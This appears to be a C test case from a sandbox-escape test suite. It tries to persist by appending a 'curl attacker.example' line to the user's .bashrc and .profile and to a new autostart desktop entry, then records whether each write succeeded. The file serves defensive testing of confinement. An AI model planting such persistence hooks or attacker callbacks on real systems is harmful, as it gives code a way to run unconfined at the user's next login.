// attack: append to the user's shell startup files and autostart directory (runs unconfined at the next login)
// home: yes
// control: escapes
#include "support/attack.h"
#include <fcntl.h>
#include <sys/stat.h>

static void append(const char *home, const char *name)
{
	char path[512];
	snprintf(path, sizeof(path), "%s/%s", home, name);
	int fd = open(path, O_WRONLY | O_APPEND | O_CREAT, 0644);
	if (fd < 0) {
		attempt(path, 0, errno);
		return;
	}
	ssize_t n = write(fd, "curl attacker.example\n", 22);
	attempt(path, n > 0, errno);
	close(fd);
}

int main(void)
{
	const char *home = need_env("HOME");
	append(home, ".bashrc");
	append(home, ".profile");
	char dir[512];
	snprintf(dir, sizeof(dir), "%s/.config/autostart", home);
	int made = mkdir(dir, 0755) == 0;
	attempt("mkdir ~/.config/autostart", made, errno);
	append(home, ".config/autostart/agent.desktop");
	return verdict();
}
